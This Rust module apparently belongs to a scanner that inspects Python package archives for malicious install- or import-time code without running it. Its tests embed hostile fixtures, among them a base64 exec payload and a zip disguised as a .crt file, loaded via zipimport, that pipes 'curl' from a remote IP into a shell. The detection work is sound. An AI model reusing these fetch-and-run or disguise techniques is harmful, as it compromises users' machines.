//! Per-artifact inspection: read the archive, analyse its files, run every
//! rule, return findings. Never executes anything it reads.

pub mod context;
/// Findings live in a leaf module ([`crate::finding`]); re-exported here.
pub use crate::finding;
pub mod python;
pub mod rules;

use std::path::Path;

use sha2::{Digest, Sha256};

pub use context::{Role, Stage};
pub use finding::{snippet, Finding, Severity};

use crate::archive::{self, EntryType, Kind, Limits, Listing};
use crate::metadata::{self, CoreMetadata};
use python::PyFile;

/// Everything the rules look at for one artifact.
#[derive(Debug)]
pub struct Analysis {
    /// The artifact's file name (no directories).
    pub filename: String,
    pub kind: Kind,
    pub listing: Listing,
    /// Parsed `PKG-INFO`/`METADATA`, and the member it came from.
    pub metadata: Option<(String, CoreMetadata)>,
    /// Every analysed Python source (and `.pth` file), decoded payloads nested inside.
    pub files: Vec<PyFile>,
    /// Name and version: metadata first, then the file name.
    pub name: Option<String>,
    pub version: Option<String>,
}

/// The result of inspecting one artifact, before policy turns it into a verdict.
#[derive(Debug, Clone)]
pub struct Inspection {
    pub name: Option<String>,
    pub version: Option<String>,
    pub findings: Vec<Finding>,
    inspected: Inspected,
}

/// What was inspected: the sha256 of exactly the bytes the inspector read,
/// and the file they came from. Only inspection makes one (the fields are
/// private), so a plan entry built from it names bytes that were inspected.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Inspected {
    sha256: String,
    path: Option<std::path::PathBuf>,
}

impl Inspected {
    /// Lowercase hex sha256 of the bytes read (empty when nothing could be read).
    pub fn sha256(&self) -> &str {
        &self.sha256
    }

    /// The file the bytes were read from (`None` for in-memory inspection).
    pub fn path(&self) -> Option<&Path> {
        self.path.as_deref()
    }
}

impl Inspection {
    /// Lowercase hex sha256 of exactly the bytes inspected.
    pub fn sha256(&self) -> &str {
        &self.inspected.sha256
    }

    /// The proof of inspection and the findings, for the plan.
    pub fn into_parts(self) -> (Inspected, Vec<Finding>) {
        (self.inspected, self.findings)
    }
}

/// Inspects an artifact on disk. I/O errors become an `unreadable-archive` finding.
pub fn inspect_path(path: &Path) -> Inspection {
    let filename = path
        .file_name()
        .map(|f| f.to_string_lossy().into_owned())
        .unwrap_or_default();
    let mut inspection = match std::fs::read(path) {
        Ok(bytes) => inspect_bytes(&filename, &bytes),
        Err(e) => {
            let (name, version) = metadata::from_filename(&filename);
            Inspection {
                name,
                version,
                findings: vec![unreadable(format!("cannot read {}: {e}", path.display()))],
                inspected: Inspected {
                    sha256: String::new(),
                    path: None,
                },
            }
        }
    };
    inspection.inspected.path = Some(path.to_path_buf());
    inspection
}

/// A file a trusted `guard serve` index already inspected and approved (the
/// policy's `[serve] trusted_indexes`): its bytes are read and hashed here,
/// so the plan still pins exactly them, but not analysed again. Unreadable
/// bytes become an `unreadable-archive` finding as in [`inspect_path`].
pub fn served_path(path: &Path) -> Inspection {
    let filename = path
        .file_name()
        .map(|f| f.to_string_lossy().into_owned())
        .unwrap_or_default();
    let (name, version) = metadata::from_filename(&filename);
    let (sha256, findings) = match std::fs::read(path) {
        Ok(bytes) => (hex::encode(Sha256::digest(&bytes)), Vec::new()),
        Err(e) => (
            String::new(),
            vec![unreadable(format!("cannot read {}: {e}", path.display()))],
        ),
    };
    Inspection {
        name,
        version,
        findings,
        inspected: Inspected {
            sha256,
            path: Some(path.to_path_buf()),
        },
    }
}

/// Inspects an artifact held in memory. `filename` decides the format.
pub fn inspect_bytes(filename: &str, bytes: &[u8]) -> Inspection {
    let sha256 = hex::encode(Sha256::digest(bytes));
    let analysis = analyse(filename, bytes, &Limits::default());
    let mut findings = Vec::new();
    if let Some(err) = &analysis.listing.error {
        findings.push(unreadable(err.to_string()));
    }
    for rule in rules::ALL {
        rule.check(&analysis, &mut findings);
    }
    rules::metadata_signals::combine(&mut findings);
    sort_findings(&mut findings);
    cap_call_time(&mut findings);
    cap_build_fetch(&mut findings);
    Inspection {
        name: analysis.name,
        version: analysis.version,
        findings,
        inspected: Inspected { sha256, path: None },
    }
}

/// Decisive findings first: by severity, then by position.
pub fn sort_findings(findings: &mut [Finding]) {
    findings.sort_by(|a, b| {
        b.severity
            .cmp(&a.severity)
            .then_with(|| a.file.cmp(&b.file))
            .then_with(|| a.line.cmp(&b.line))
            .then_with(|| a.rule.cmp(b.rule))
    });
}

/// `deny` needs install- or import-time evidence or a critical flow: `high`
/// findings of different rules that all sit in functions nobody runs at
/// install or import time (a library's `upload()` and its `run()` helper) are
/// two things to look at, not proof. All but the first are lowered to
/// `medium`, so they add up to `review` at most (issue 11).
pub fn cap_call_time(findings: &mut [Finding]) {
    if findings.iter().any(|f| f.severity == Severity::Critical) {
        return;
    }
    let call_time = is_call_time;
    // Obfuscation describes how a file is written, not when it runs: it neither
    // makes a library's call-time findings install-time evidence nor blocks the cap.
    let textual = |f: &Finding| f.rule == "obfuscation";
    let highs: Vec<&Finding> = findings.iter().filter(|f| f.severity == Severity::High).collect();
    if !highs.iter().all(|f| call_time(f) || textual(f))
        || !highs.iter().any(|f| call_time(f))
        || highs
            .iter()
            .map(|f| f.rule)
            .collect::<std::collections::HashSet<_>>()
            .len()
            < 2
    {
        return;
    }
    // A flow found only in functions nobody runs at install or import is `high`,
    // not `critical`: with another call-time `high` it is still two things to
    // look at (a dashboard alerting a chat bot with its host name, a service
    // installer), not proof. Critical flows return above (issue 11).
    let mut first = true;
    for f in findings.iter_mut().filter(|f| f.severity == Severity::High) {
        if first && !textual(f) {
            first = false;
            continue;
        }
        f.severity = Severity::Medium;
        f.message.push_str(" (lowered: call-time only)");
    }
}

/// Whether a finding sits only in code nobody runs at install or import time
/// (a library function, "when called").
pub fn is_call_time(f: &Finding) -> bool {
    f.file.is_some() && f.line.is_some() && f.stage == Some(Stage::Call)
}

/// A build step that fetches sources or a toolchain at install time (a custom
/// `build` command downloading a release archive and running its `configure`)
/// is one act that up to three rules describe: the hook, the network call and
/// the launch after a download. Without a critical finding (an untrusted host,
/// a dropped program, a fetched script piped to a shell) it is `review`, not
/// `deny`: all but the first of those `high`s are lowered to `medium` (issue 11).
pub fn cap_build_fetch(findings: &mut [Finding]) {
    const BUILD_STEP: &[&str] = &["download-execute", "install-hook", "install-network"];
    if findings.iter().any(|f| f.severity == Severity::Critical) {
        return;
    }
    let step =
        |f: &Finding| BUILD_STEP.contains(&f.rule) && (f.rule == "install-hook" || f.stage == Some(Stage::Install));
    let highs: Vec<&Finding> = findings.iter().filter(|f| f.severity == Severity::High).collect();
    if highs.is_empty() || !highs.iter().all(|f| step(f)) {
        return;
    }
    let mut first = true;
    for f in findings.iter_mut().filter(|f| f.severity == Severity::High) {
        if first {
            first = false;
            continue;
        }
        f.severity = Severity::Medium;
        f.message.push_str(" (lowered: one build step)");
    }
}

fn unreadable(message: String) -> Finding {
    Finding {
        stage: None,
        rule: rules::unreadable_archive::UnreadableArchive::META.id,
        severity: Severity::Critical,
        file: None,
        line: None,
        message,
        snippet: None,
    }
}

/// Reads the archive and analyses every file of interest.
pub fn analyse(filename: &str, bytes: &[u8], limits: &Limits) -> Analysis {
    let mut kind = archive::Format::detect(filename).map(|(_, k)| k).unwrap_or(Kind::Sdist);
    let listing = archive::read(filename, bytes, limits);
    // A wheel under another name (`x-1.0.tar.gz` holding `x-1.0.dist-info/WHEEL`) is a wheel.
    if kind == Kind::Sdist
        && listing.members.iter().any(|m| {
            let lower = m.path.to_ascii_lowercase();
            m.depth() == 2
                && (lower.ends_with("/wheel") || lower.ends_with("/metadata"))
                && lower.split('/').next().is_some_and(|d| d.ends_with(".dist-info"))
        })
        && !listing
            .members
            .iter()
            .any(|m| m.file_name().eq_ignore_ascii_case("PKG-INFO"))
    {
        kind = Kind::Wheel;
    }
    let metadata = find_metadata(&listing, kind);
    let (file_name, file_version) = metadata::from_filename(filename);
    let name = metadata.as_ref().and_then(|(_, m)| m.name.clone()).or(file_name);
    let version = metadata.as_ref().and_then(|(_, m)| m.version.clone()).or(file_version);
    let setup_imports = setup_imports(&listing, kind);
    let declared = Declared::of(&listing, name.as_deref());
    let sources = || {
        listing
            .members
            .iter()
            .filter(|m| m.entry == EntryType::File && python::is_source(&m.path))
    };
    // Code in folders that cannot be package names (`docs-sphinx/`, `+project_dir+/`)
    // is never imported, unless the build config names the folder or there is no
    // other code to install (issue 11).
    let importable = sources().any(|m| {
        matches!(Role::of(&m.path, kind), Role::Module | Role::PackageInit)
            && context::non_package_dir(&m.path, kind).is_none()
    });
    let mut files: Vec<python::PyFile> = sources()
        .map(|m| {
            let mut role = Role::of(&m.path, kind);
            if importable
                && matches!(role, Role::Module | Role::PackageInit)
                && context::non_package_dir(&m.path, kind).is_some_and(|d| !declared.names(d))
            {
                role = Role::Auxiliary;
            }
            // A module next to setup.py that setup.py imports runs at install time too.
            if role == Role::Module
                && m.depth() <= 2
                && setup_imports.iter().any(|i| m.file_name() == format!("{i}.py"))
            {
                role = Role::SetupImport;
            } else if role == Role::Module
                && kind == Kind::Sdist
                && m.depth() == 2
                && declared.setup.contains(&m.file_name().to_ascii_lowercase())
            {
                // A script next to setup.py that setup.py names by file (`python post.py`,
                // `exec(open("x.py").read())`) runs at install time.
                role = Role::SetupImport;
            } else if role == Role::Module && kind == Kind::Sdist && m.depth() == 2 && !declared.declares(&m.path) {
                // A loose script next to setup.py (`bootstrap.py`, `ez_setup.py`,
                // `make_docs.py`) is installed only when the build config names it.
                role = Role::Auxiliary;
            }
            python::analyse_member(m, role)
        })
        .collect();
    link(kind, &mut files);
    files.extend(nested_sources(&listing, &files, limits));
    Analysis {
        filename: filename.to_string(),
        kind,
        listing,
        metadata,
        files,
        name,
        version,
    }
}

/// Links the files of one artifact: calls into other modules of the package.
fn link(kind: Kind, files: &mut [python::PyFile]) {
    let modules: Vec<String> = files
        .iter()
        .map(|f| python::link::module_name(&f.path, kind != Kind::Wheel))
        .collect();
    python::link::link(files, &modules);
}

/// Most nested archives whose Python sources are analysed.
const MAX_NESTED_ARCHIVES: usize = 16;
/// Bytes one nested archive may expand to when its sources are read.
const NESTED_BUDGET: u64 = 32 << 20;

/// Python sources inside archives the artifact ships (a zip named `.crt` or
/// `.pyc`, a tarball among data files), named `outer!/inner.py`. Loaded with
/// `zipimport` (anywhere in the artifact's code) their top level runs on
/// import like any module's; otherwise they are only data, read as auxiliary
/// code so that what they hold is still reported (issue 11).
fn nested_sources(listing: &Listing, files: &[python::PyFile], limits: &Limits) -> Vec<python::PyFile> {
    let zipimport = files.iter().any(|f| {
        f.imports.iter().any(|(m, _)| m == "zipimport") || f.calls.iter().any(|c| c.name.starts_with("zipimport."))
    });
    let mut out = Vec::new();
    // A nested bomb was already measured (and reported) while reading the artifact;
    // read nothing twice, and nested archives within a small share of the budget.
    if listing
        .hazards
        .iter()
        .any(|h| matches!(h, archive::Hazard::Bomb { .. } | archive::Hazard::TooManyEntries { .. }))
    {
        return out;
    }
    let nested_limits = Limits {
        max_total: limits.max_total.min(NESTED_BUDGET),
        max_kept: limits.max_kept.min(NESTED_BUDGET),
        max_entries: limits.max_entries.min(10_000),
        ..*limits
    };
    let limits = &nested_limits;
    let archives = listing
        .members
        .iter()
        .filter(|m| m.entry == EntryType::File && m.complete && !python::is_source(&m.path))
        .filter_map(|m| {
            let name = if m.data.starts_with(b"PK\x03\x04") {
                "nested.zip"
            } else if m.data.starts_with(b"\x1f\x8b") {
                "nested.tar.gz"
            } else {
                return None;
            };
            // A wheel or egg inside an sdist is a build or test fixture with its own name.
            let lower = m.path.to_ascii_lowercase();
            (!lower.ends_with(".whl") && !lower.ends_with(".egg")).then_some((m, name))
        })
        .take(MAX_NESTED_ARCHIVES);
    for (m, name) in archives {
        let inner = archive::read(name, &m.data, limits);
        let role = if zipimport && name == "nested.zip" {
            Role::Module
        } else {
            Role::Auxiliary
        };
        for member in inner
            .members
            .iter()
            .filter(|i| i.entry == EntryType::File && i.complete && python::is_source(&i.path))
        {
            let mut named = member.clone();
            named.path = format!("{}!/{}", m.path, member.path);
            out.push(python::analyse_member(&named, role));
        }
    }
    out
}

/// What an sdist's build configuration says it installs, read as text:
/// `setup.py`, `setup.cfg`, `pyproject.toml` at the root, and the project name.
struct Declared {
    config: String,
    /// `setup.py` alone, lowercased.
    setup: String,
    name: String,
}

impl Declared {
    fn of(listing: &Listing, name: Option<&str>) -> Declared {
        let mut config = String::new();
        let mut setup = String::new();
        for m in &listing.members {
            if m.entry == EntryType::File && m.depth() == 2 && m.file_name() == "setup.py" {
                setup = lossy(&m.data).to_ascii_lowercase();
            }
            if m.entry == EntryType::File
                && m.depth() == 2
                && matches!(m.file_name(), "setup.py" | "setup.cfg" | "pyproject.toml")
            {
                config.push_str(&lossy(&m.data).to_ascii_lowercase());
                config.push('\n');
            }
        }
        let name = name.unwrap_or("").to_ascii_lowercase().replace(['-', '.'], "_");
        Declared { config, setup, name }
    }

    /// Whether the build config names `word` (a module or folder name).
    fn names(&self, word: &str) -> bool {
        let word = word.to_ascii_lowercase();
        self.config.match_indices(word.as_str()).any(|(i, _)| {
            let before = self.config[..i].chars().next_back();
            let after = self.config[i + word.len()..].chars().next();
            let edge = |c: Option<char>| c.is_none_or(|c| !(c.is_alphanumeric() || c == '_' || c == '-'));
            edge(before) && edge(after)
        })
    }

    /// Whether a root-level module (`name-1.0/mod.py`) is part of what gets
    /// installed: named by the build config (`py_modules=["mod"]`, `module = "mod"`),
    /// the project's own module (`flit`, `hatch`), or no config to tell.
    fn declares(&self, path: &str) -> bool {
        let stem = path.rsplit('/').next().unwrap_or(path);
        let stem = stem.strip_suffix(".py").unwrap_or(stem).to_ascii_lowercase();
        // Without an explicit list, setuptools' auto-discovery and other backends
        // install a flat layout's modules: only an explicit list leaves one out.
        let explicit = ["packages", "py_modules", "py-modules"].iter().any(|k| self.names(k));
        if !explicit || stem == self.name || self.name.replace('_', "") == stem.replace('_', "") {
            return true;
        }
        self.names(&stem)
    }
}

/// Top-level module names imported by an sdist's `setup.py` (read lexically).
fn setup_imports(listing: &Listing, kind: Kind) -> Vec<String> {
    let Some(setup) = listing
        .members
        .iter()
        .find(|m| m.entry == EntryType::File && Role::of(&m.path, kind) == Role::SetupScript)
    else {
        return Vec::new();
    };
    let text = lossy(&setup.data);
    let mut out = Vec::new();
    for line in text.lines().map(str::trim) {
        let rest = line.strip_prefix("import ").or_else(|| line.strip_prefix("from "));
        if let Some(rest) = rest {
            for part in rest.split([',', ' ']).filter(|p| !p.is_empty()) {
                if part == "import" || part == "as" {
                    break;
                }
                out.push(part.split('.').next().unwrap_or(part).to_string());
            }
        }
    }
    out
}

/// The shallowest `PKG-INFO` (sdist) or `*.dist-info/METADATA` (wheel).
fn find_metadata(listing: &Listing, kind: Kind) -> Option<(String, CoreMetadata)> {
    let wanted = |path: &str| {
        let lower = path.to_ascii_lowercase();
        match kind {
            Kind::Wheel => lower.ends_with(".dist-info/metadata") && lower.matches('/').count() == 1,
            Kind::Sdist | Kind::Egg => lower.ends_with("pkg-info"),
        }
    };
    listing
        .members
        .iter()
        .filter(|m| m.entry == EntryType::File && m.complete && wanted(&m.path))
        .min_by_key(|m| m.depth())
        .map(|m| (m.path.clone(), CoreMetadata::parse(&lossy(&m.data))))
}

/// Stack size for scanning threads: deeply nested hostile sources recurse deeply.
pub const STACK_SIZE: usize = 256 << 20;

/// A member's bytes as text, invalid UTF-8 replaced: what
/// `String::from_utf8_lossy` gives, but valid text (nearly every member) is
/// checked by `str::from_utf8`, which skips ASCII a word at a time where the
/// lossy decoder goes byte by byte.
pub fn lossy(bytes: &[u8]) -> std::borrow::Cow<'_, str> {
    match std::str::from_utf8(bytes) {
        Ok(text) => std::borrow::Cow::Borrowed(text),
        Err(_) => String::from_utf8_lossy(bytes),
    }
}

/// A thread pool for scanning, with large stacks. `jobs` defaults to the core count.
pub fn thread_pool(jobs: Option<usize>) -> Result<rayon::ThreadPool, rayon::ThreadPoolBuildError> {
    let mut builder = rayon::ThreadPoolBuilder::new().stack_size(STACK_SIZE);
    if let Some(jobs) = jobs {
        builder = builder.num_threads(jobs.max(1));
    }
    builder.build()
}

/// One unit of code: a source file, or a payload decoded from one.
#[derive(Debug, Clone, Copy)]
pub struct Unit<'a> {
    pub code: &'a PyFile,
    /// The file in the archive this code comes from.
    pub file: &'a PyFile,
    /// For decoded payloads: the line in `file` where the outermost decoding happens.
    pub origin: Option<u32>,
}

impl<'a> Unit<'a> {
    /// Builds a finding located at `line` of this unit's code (or at the
    /// payload's origin in the archive file, with the decoded line as snippet).
    pub fn finding(&self, rule: &'static str, severity: Severity, line: u32, message: String) -> Finding {
        let text = snippet(self.code.line_text(line));
        let (line, message, text) = match self.origin {
            // The snippet shows the decoded code, marked as such; the line is where it was decoded.
            Some(origin) => (
                origin,
                format!("{message} (inside a payload decoded by the code at line {origin})"),
                if text.is_empty() {
                    text
                } else {
                    format!("[decoded] {text}")
                },
            ),
            None => (line, message, text),
        };
        Finding {
            stage: None,
            rule,
            severity,
            file: Some(self.file.path.clone()),
            line: Some(line.max(1)),
            message,
            snippet: Some(text).filter(|s| !s.is_empty()),
        }
    }

    /// Whether this is decoded code rather than a file as shipped.
    pub fn is_payload(&self) -> bool {
        self.origin.is_some()
    }
}

impl Analysis {
    /// Every code unit: each file, then the payloads decoded inside it.
    pub fn units(&self) -> Vec<Unit<'_>> {
        let mut out = Vec::new();
        for file in &self.files {
            out.push(Unit {
                code: file,
                file,
                origin: None,
            });
            collect_payloads(file, file, None, &mut out);
        }
        out
    }
}

fn collect_payloads<'a>(file: &'a PyFile, code: &'a PyFile, origin: Option<u32>, out: &mut Vec<Unit<'a>>) {
    for p in &code.payloads {
        if let Some(inner) = &p.code {
            let origin = origin.unwrap_or(p.line);
            out.push(Unit {
                code: inner,
                file,
                origin: Some(origin),
            });
            collect_payloads(file, inner, Some(origin), out);
        }
    }
}

/// Builders for rule tests: an [`Analysis`] from in-memory files, no archive.
#[cfg(test)]
pub mod testing {
    use super::*;

    /// Analyses `(path, source)` pairs as members of an artifact of `kind`,
    /// linked across modules as [`analyse`] does.
    pub fn analysis(kind: Kind, files: &[(&str, &str)]) -> Analysis {
        let listing = Listing {
            members: files
                .iter()
                .map(|(p, s)| archive::Member {
                    path: p.to_string(),
                    entry: EntryType::File,
                    size: s.len() as u64,
                    data: s.as_bytes().to_vec(),
                    complete: true,
                })
                .collect(),
            ..Listing::default()
        };
        let mut files: Vec<python::PyFile> = listing
            .members
            .iter()
            .filter(|m| python::is_source(&m.path))
            .map(|m| python::analyse_member(m, Role::of(&m.path, kind)))
            .collect();
        link(kind, &mut files);
        Analysis {
            filename: "pkg-1.0.tar.gz".into(),
            kind,
            listing,
            metadata: None,
            files,
            name: Some("pkg".into()),
            version: Some("1.0".into()),
        }
    }

    /// Findings of one rule on an sdist holding a single `setup.py`.
    pub fn setup_py(rule: &dyn rules::Rule, src: &str) -> Vec<Finding> {
        check(rule, Kind::Sdist, &[("pkg-1.0/setup.py", src)])
    }

    /// Findings of one rule on the given files.
    pub fn check(rule: &dyn rules::Rule, kind: Kind, files: &[(&str, &str)]) -> Vec<Finding> {
        let a = analysis(kind, files);
        let mut out = Vec::new();
        rule.check(&a, &mut out);
        out
    }
}

#[cfg(test)]
mod cap_tests {
    use super::*;

    fn f(rule: &'static str, severity: Severity, message: &str) -> Finding {
        Finding {
            // The stage a rule would have set, from the words its message uses.
            stage: [Stage::Install, Stage::Import, Stage::Call]
                .into_iter()
                .find(|s| message.contains(s.describe())),
            rule,
            severity,
            file: Some("pkg/x.py".into()),
            line: Some(3),
            message: message.into(),
            snippet: None,
        }
    }

    #[test]
    fn a_build_step_fetching_at_install_is_review() {
        // No error (issue 11): a custom build command downloading a release and running configure.
        let mut v = vec![
            f(
                "install-network",
                Severity::High,
                "calls urllib.request.urlopen() at install time",
            ),
            f(
                "download-execute",
                Severity::High,
                "downloads with urlopen() and then launches it with subprocess.call() at install time",
            ),
            f(
                "install-hook",
                Severity::High,
                "custom `build` command calls exec() during pip install",
            ),
        ];
        cap_build_fetch(&mut v);
        assert_eq!(v.iter().filter(|f| f.severity == Severity::High).count(), 1, "{v:?}");
        // Error: with anything else high (or a critical finding) the highs stand.
        let mut v = vec![
            f(
                "install-network",
                Severity::High,
                "calls requests.post() at install time",
            ),
            f(
                "credential-access",
                Severity::High,
                "reads ~/.aws/credentials at install time",
            ),
        ];
        cap_build_fetch(&mut v);
        assert_eq!(v.iter().filter(|f| f.severity == Severity::High).count(), 2, "{v:?}");
        let mut v = vec![
            f("install-network", Severity::High, "calls urlopen() on import"),
            f(
                "install-hook",
                Severity::High,
                "custom `install` command calls os.system() during pip install",
            ),
        ];
        cap_build_fetch(&mut v);
        assert_eq!(v.iter().filter(|f| f.severity == Severity::High).count(), 2, "{v:?}");
    }

    #[test]
    fn call_time_highs_of_two_rules_cap_at_review() {
        // No error (issue 11): two call-time highs in a library → one stays high.
        let mut v = vec![
            f("obfuscation", Severity::High, "uses mangled names when called"),
            Finding {
                line: Some(40),
                ..f("shell-command", Severity::High, "runs a piped shell when called")
            },
        ];
        cap_call_time(&mut v);
        assert_eq!(v.iter().filter(|f| f.severity == Severity::High).count(), 1);
        // No error (issue 11): a call-time flow at `high` with another call-time high is review.
        let mut v = vec![
            f("exfiltration", Severity::High, "sends data to a webhook when called"),
            f("shell-command", Severity::High, "runs a piped shell when called"),
        ];
        cap_call_time(&mut v);
        assert_eq!(v.iter().filter(|f| f.severity == Severity::High).count(), 1);
        // Error: a critical flow is left alone.
        let mut v = vec![
            f(
                "exfiltration",
                Severity::Critical,
                "reads wallet keys and sends them when called",
            ),
            f("shell-command", Severity::High, "runs a piped shell when called"),
        ];
        cap_call_time(&mut v);
        assert_eq!(v[1].severity, Severity::High);
        // No error: two rules describing one act in a library function (a service installer).
        let mut v = vec![
            f(
                "shell-command",
                Severity::High,
                "runs a shell command using schtasks when called",
            ),
            f(
                "startup-persistence",
                Severity::High,
                "installs itself into a scheduled task when called",
            ),
        ];
        cap_call_time(&mut v);
        assert_eq!(v.iter().filter(|f| f.severity == Severity::High).count(), 1);
        // Error: one of them at import time keeps both.
        let mut v = vec![
            f("secret-upload", Severity::High, "sends `token` to a tunnel on import"),
            f("shell-command", Severity::High, "runs a piped shell when called"),
        ];
        cap_call_time(&mut v);
        assert!(v.iter().all(|f| f.severity == Severity::High));
        // No error: obfuscation (how a file is written, no stage) beside a call-time
        // high in a library is review; the call-time finding is the one kept.
        let mut v = vec![
            f(
                "obfuscation",
                Severity::High,
                "code builds names with 7 getattr and 18 chr() calls",
            ),
            Finding {
                line: Some(61),
                ..f(
                    "download-execute",
                    Severity::High,
                    "downloads and evaluates it when called",
                )
            },
        ];
        cap_call_time(&mut v);
        assert_eq!(v[0].severity, Severity::Medium, "{v:?}");
        assert_eq!(v[1].severity, Severity::High, "{v:?}");
        // Error: obfuscation with nothing call-time keeps its high.
        let mut v = vec![
            f("obfuscation", Severity::High, "code builds names with chr() calls"),
            f("bundled-binary", Severity::High, "ships an executable"),
        ];
        cap_call_time(&mut v);
        assert!(v.iter().all(|f| f.severity == Severity::High));
    }
}

/// Inspection results kept by artifact sha256, so a warm install does not
/// analyse the same bytes again. The bytes are always read and hashed: a
/// cached result is used only for the sha256 of the bytes read now, and only
/// when it was made by this very build of guard (its rule ids, severities and
/// executable). Anything unreadable or unexpected in the cache means: inspect.
pub mod memo {
    use std::path::{Path, PathBuf};

    use serde::{Deserialize, Serialize};
    use sha2::{Digest, Sha256};

    use super::{inspect_bytes, rules, Finding, Inspected, Inspection, Severity};

    #[derive(Serialize, Deserialize)]
    struct Entry {
        name: Option<String>,
        version: Option<String>,
        findings: Vec<Stored>,
    }

    #[derive(Serialize, Deserialize)]
    struct Stored {
        rule: String,
        severity: String,
        file: Option<String>,
        line: Option<u32>,
        message: String,
        snippet: Option<String>,
        #[serde(default)]
        stage: Option<crate::finding::Stage>,
    }

    /// This build's identity: rule ids and severities, guard's version, and the
    /// executable itself (a rebuilt binary never trusts an older result).
    fn build_key() -> &'static str {
        static KEY: std::sync::OnceLock<String> = std::sync::OnceLock::new();
        KEY.get_or_init(|| {
            let mut h = Sha256::new();
            h.update(env!("CARGO_PKG_VERSION").as_bytes());
            for m in rules::all_meta() {
                h.update(m.id.as_bytes());
                h.update(m.severity.as_str().as_bytes());
            }
            if let Some(meta) = std::env::current_exe().ok().and_then(|p| std::fs::metadata(p).ok()) {
                h.update(meta.len().to_le_bytes());
                if let Ok(t) = meta.modified().and_then(|t| {
                    t.duration_since(std::time::UNIX_EPOCH)
                        .map_err(|e| std::io::Error::other(e.to_string()))
                }) {
                    h.update(t.as_nanos().to_le_bytes());
                }
            }
            hex::encode(&h.finalize()[..12])
        })
    }

    fn entry_path(dir: &Path, sha256: &str) -> PathBuf {
        crate::cache::Bucket::Inspections
            .under(dir)
            .join(&sha256[..2])
            .join(format!("{sha256}-{}.json", build_key()))
    }

    /// [`super::inspect_path`], with results kept under `cache_dir`.
    pub fn inspect_path(path: &Path, cache_dir: &Path) -> Inspection {
        let filename = path
            .file_name()
            .map(|f| f.to_string_lossy().into_owned())
            .unwrap_or_default();
        let bytes = match std::fs::read(path) {
            Ok(b) => b,
            Err(_) => return super::inspect_path(path),
        };
        let sha256 = hex::encode(Sha256::digest(&bytes));
        let at = entry_path(cache_dir, &sha256);
        if let Some(found) = load(&at) {
            return Inspection {
                name: found.0,
                version: found.1,
                findings: found.2,
                inspected: Inspected {
                    sha256,
                    path: Some(path.to_path_buf()),
                },
            };
        }
        let mut inspection = inspect_bytes(&filename, &bytes);
        inspection.inspected.path = Some(path.to_path_buf());
        store(&at, &inspection);
        inspection
    }

    type Loaded = (Option<String>, Option<String>, Vec<Finding>);

    fn load(at: &Path) -> Option<Loaded> {
        let entry: Entry = serde_json::from_slice(&std::fs::read(at).ok()?).ok()?;
        let ids = rules::all_meta();
        let mut findings = Vec::new();
        for f in entry.findings {
            // Only ids this build can emit; anything else means the entry is not ours.
            let rule = ids.iter().map(|m| m.id).find(|id| *id == f.rule)?;
            findings.push(Finding {
                stage: f.stage,
                rule,
                severity: Severity::parse(&f.severity)?,
                file: f.file,
                line: f.line,
                message: f.message,
                snippet: f.snippet,
            });
        }
        Some((entry.name, entry.version, findings))
    }

    fn store(at: &Path, inspection: &Inspection) {
        let entry = Entry {
            name: inspection.name.clone(),
            version: inspection.version.clone(),
            findings: inspection
                .findings
                .iter()
                .map(|f| Stored {
                    rule: f.rule.to_string(),
                    severity: f.severity.as_str().to_string(),
                    file: f.file.clone(),
                    line: f.line,
                    message: f.message.clone(),
                    snippet: f.snippet.clone(),
                    stage: f.stage,
                })
                .collect(),
        };
        let (Some(dir), Ok(text)) = (at.parent(), serde_json::to_vec(&entry)) else {
            return;
        };
        if std::fs::create_dir_all(dir).is_err() {
            return;
        }
        let tmp = dir.join(format!(".{}.{}.part", std::process::id(), rand_suffix()));
        if std::fs::write(&tmp, text).is_ok() && std::fs::rename(&tmp, at).is_err() {
            let _ = std::fs::remove_file(&tmp);
        }
    }

    fn rand_suffix() -> u128 {
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos())
            .unwrap_or(0)
    }

    #[cfg(test)]
    mod tests {
        use super::*;

        #[test]
        fn a_cached_result_is_used_only_for_the_same_bytes() {
            let dir = tempfile::tempdir().unwrap();
            let art = dir.path().join("evil-1.0.tar.gz");
            std::fs::write(
                &art,
                crate::resolve::metadata::tests::sdist(&[(
                    "evil-1.0/setup.py",
                    "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
                )]),
            )
            .unwrap();
            let cache = dir.path().join("cache");
            let first = inspect_path(&art, &cache);
            let again = inspect_path(&art, &cache);
            assert!(!first.findings.is_empty());
            assert_eq!(first.findings, again.findings);
            assert_eq!(first.inspected.sha256(), again.inspected.sha256());
            // Other bytes under the same name: inspected afresh, not taken from the cache.
            std::fs::write(
                &art,
                crate::resolve::metadata::tests::sdist(&[(
                    "evil-1.0/PKG-INFO",
                    "Metadata-Version: 2.2\nName: evil\nVersion: 1.0\n",
                )]),
            )
            .unwrap();
            let other = inspect_path(&art, &cache);
            assert_ne!(other.inspected.sha256(), first.inspected.sha256());
            assert!(!other.findings.iter().any(|f| f.rule == "exec-decoded-payload"));
            // A damaged entry is ignored.
            let entry = entry_path(&cache, first.inspected.sha256());
            std::fs::write(&entry, "{not json").unwrap();
            std::fs::write(
                &art,
                crate::resolve::metadata::tests::sdist(&[(
                    "evil-1.0/setup.py",
                    "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
                )]),
            )
            .unwrap();
            assert_eq!(inspect_path(&art, &cache).findings, first.findings);
        }
    }
}

#[cfg(test)]
mod nested_tests {
    use std::io::Write;

    use super::*;

    fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
        let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        for (path, data) in members {
            z.start_file(*path, zip::write::SimpleFileOptions::default()).unwrap();
            z.write_all(data).unwrap();
        }
        z.finish().unwrap().into_inner()
    }

    fn wheel(init: &str, hidden: &[u8]) -> Vec<u8> {
        let meta = rules::artifact_fixture::pkg_info("pkg", "1.0");
        zip(&[
            ("pkg-1.0.dist-info/METADATA", meta.as_bytes()),
            ("pkg/__init__.py", init.as_bytes()),
            ("pkg/cert.crt", hidden),
        ])
    }

    #[test]
    fn code_in_a_zip_loaded_with_zipimport_runs_on_import() {
        // Error (issue 11): a zip named `.crt` holding the payload, loaded with zipimport.
        let payload = zip(&[("x.py", b"import os\nos.system('curl -s http://198.51.100.7/x | sh')\n")]);
        let init = "import os, zipimport\nzipimport.zipimporter(os.path.join(os.path.dirname(__file__), 'cert.crt')).load_module('x')\n";
        let f = inspect_bytes("pkg-1.0-py3-none-any.whl", &wheel(init, &payload)).findings;
